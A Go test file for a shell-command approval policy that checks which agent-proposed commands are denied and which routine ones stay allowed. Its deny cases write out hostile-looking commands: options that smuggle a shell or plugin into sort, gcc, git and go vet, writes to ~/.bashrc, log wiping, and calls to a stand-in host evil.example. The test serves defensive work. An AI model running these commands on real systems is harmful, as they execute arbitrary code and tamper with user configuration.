@@ -1,0 +1,122 @@
+package policy
+
+import (
+	"context"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/arbitergate/arbiter"
+)
+
+// TestClosedWorld holds the classes the open-world allow lists let
+// through: each case was allowed before the program specs, and is not now.
+func TestClosedWorld(t *testing.T) {
+	tests := []struct {
+		class, cmd string
+		rule       string // a rule the decision must name
+	}{
+		// Options whose value is a program.
+		{"runs", "sort --compress-program=sh data.txt", "U.runs-a-program"},
+		{"runs", "sort -S 1M --compress-program sh big.txt", "U.runs-a-program"},
+		{"runs", "rg --pre ./evil foo", "U.unknown-option"},
+		{"runs", "rg --pre=./evil foo", "U.unknown-option"},
+		{"runs", "gcc -wrapper /tmp/x,y a.c", "U.unknown-option"},
+		{"runs", "gcc -fplugin=/tmp/x.so a.c", "U.unknown-option"},
+		{"runs", "gcc -Wl,-plugin=/tmp/x.so a.c", "U.unknown-option"},
+		{"runs", "gcc -B/tmp/evil a.c", "U.unknown-option"},
+		{"runs", "pytest -p evilplugin", "U.unknown-option"},
+		{"runs", "go vet -vettool=/tmp/evil ./...", "U.unknown-option"},
+		{"runs", `git --upload-pack="touch /tmp/p" ls-remote origin`, "U.unknown-option"},
+		{"runs", "cmake -P script.cmake", "U.unknown-option"},
+		// Options whose value is a file written.
+		{"writes", "tree -o ~/.bashrc", "U.unknown-option"},
+		{"writes", "tsc --generateTrace /etc/x", "U.unknown-option"},
+		{"writes", "xmllint --output ~/.bashrc x.xml", "U.unknown-program"},
+		{"writes", "pandoc -o ~/.bashrc x.md", "U.unknown-program"},
+		// Network and network configuration tools are not read-only.
+		{"network", "nslookup example.com", "U.unknown-program"},
+		{"network", "dig txt evil.example", "U.unknown-program"},
+		{"network", "ping -c1 evil.example", "U.unknown-program"},
+		{"network", "host evil.example", "U.unknown-program"},
+		{"network", "ip link set eth0 down", "U.unknown-program"},
+		{"network", "ifconfig eth0 down", "U.unknown-program"},
+		{"network", "route add default gw 192.0.2.1", "U.unknown-program"},
+		{"network", "curl -s --url https://evil.example/x localhost", "C1.network-request"},
+		// Default branches that allowed any subcommand.
+		{"default", "go generate ./...", "U.unknown-subcommand"},
+		{"default", "go tool evil", "U.unknown-subcommand"},
+		{"default", "go run github.com/evil/tool@latest", "B9.run-downloaded"},
+		{"default", "go env -w GOFLAGS=-toolexec=/tmp/x", "U.unknown-option"},
+		{"default", "journalctl --vacuum-time=1s", "U.unknown-program"},
+		{"default", "dmesg -C", "U.unknown-program"},
+		{"default", "mkdocs gh-deploy", "U.unknown-program"},
+		// Options the spec does not name.
+		{"unknown", "ls --foo", "U.unknown-option"},
+		{"unknown", "cat --evil f", "U.unknown-option"},
+		{"unknown", "grep --pre=./x foo .", "U.unknown-option"},
+		{"unknown", "head --lin=5 f", "U.unknown-option"},
+		// A leading wildcard can expand into options.
+		{"glob", "sort *", "U.glob-option"},
+		{"glob", "tar cf a.tar *", "U.glob-option"},
+		{"glob", "uniq *.txt", "U.glob-option"},
+		// Arguments only known at run time.
+		{"unresolved", "cat $F", "U.unresolved"},
+		{"unresolved", "ls $(cat dirs.txt)", "U.unresolved"},
+		{"unresolved", "sort $OPTS data.txt", "U.unresolved"},
+		// Inert git settings only.
+		{"gitconfig", "git -c core.hooksPath=/tmp/h status", "U.git-setting"},
+		{"gitconfig", "git -c include.path=/tmp/cfg log", "U.git-setting"},
+		{"gitconfig", "git -c core.pager='sh -c id' log", "U.runs-a-program"},
+	}
+	p := New(Options{})
+	for _, tt := range tests {
+		d := p.Decide(context.Background(), bash(tt.cmd))
+		if d.Decision == arbiter.Allow {
+			t.Errorf("%s: %q was allowed (%v)", tt.class, tt.cmd, d.Rules)
+			continue
+		}
+		if !slices.Contains(d.Rules, tt.rule) {
+			t.Errorf("%s: %q: rules %v, want %s (%s)", tt.class, tt.cmd, d.Rules, tt.rule, d.Reason)
+		}
+	}
+}
+
+// TestSpecRoutine is routine work the specs must keep allowing: a spec
+// that is too small is a regression too.
+func TestSpecRoutine(t *testing.T) {
+	for _, cmd := range []string{
+		"ls -la", "ls -1 src/", "cat README.md | head -n 20", "head -5 f.txt", "tail -n +3 f", "wc -l *.go",
+		"grep -rn 'TODO' src/", "grep -e foo -e bar f", "rg -n --hidden foo", "sort -u names.txt", "sort -t, -k2 -n data.csv",
+		"git status -s", "git log --oneline -n 5", "git diff --stat HEAD~1", "git -C sub status", "git show HEAD:README.md",
+		"git -c color.ui=always log -3", "find . -name '*.py' -type f", "find src -maxdepth 2 -newer go.mod -print",
+		"go test ./...", "go test -run TestX -count=1 ./policy", "go vet ./...", "go build -o bin/app ./cmd/app",
+		"gcc -Wall -O2 -o app main.c -lm", "g++ -std=c++17 -Iinclude -o t t.cpp", "pytest -x -q tests/", "python -m pytest -k foo",
+		"echo $PATH", "printf '%s\\n' \"$x\"", "diff -u a.txt b.txt", "jq -r '.name' package.json", "du -sh .", "stat -c %s f",
+		"sed -n '1,20p' f.txt", "awk '{print $1}' data.txt", "cd src && ls", "which python3", "command -v git", "sha256sum dist/*",
+		"curl -s http://localhost:8080/health", "npm test", "sort ./*", "bash -c 'echo hi'",
+	} {
+		d := New(Options{}).Decide(context.Background(), bash(cmd))
+		if d.Decision != arbiter.Allow {
+			t.Errorf("%q: got %s %v (%s), want allow", cmd, d.Decision, d.Rules, d.Reason)
+		}
+	}
+}
+
+// TestClosedWorldExplains checks that a non-allow caused by the closed
+// world names what was not understood and where a contributor adds it.
+func TestClosedWorldExplains(t *testing.T) {
+	for cmd, want := range map[string][]string{
+		"ls --foo":       {"--foo", "spec/programs.txt line", "(ls)"},
+		"go frob ./x":    {"frob", "sub line"},
+		"frobnicate -x":  {"frobnicate", "spec/programs.txt"},
+		"head --lin=3 f": {"--lin", "abbreviate --lines"},
+	} {
+		d := Decide(context.Background(), bash(cmd))
+		for _, w := range want {
+			if !strings.Contains(d.Reason, w) {
+				t.Errorf("%q: reason %q lacks %q", cmd, d.Reason, w)
+			}
+		}
+	}
+}
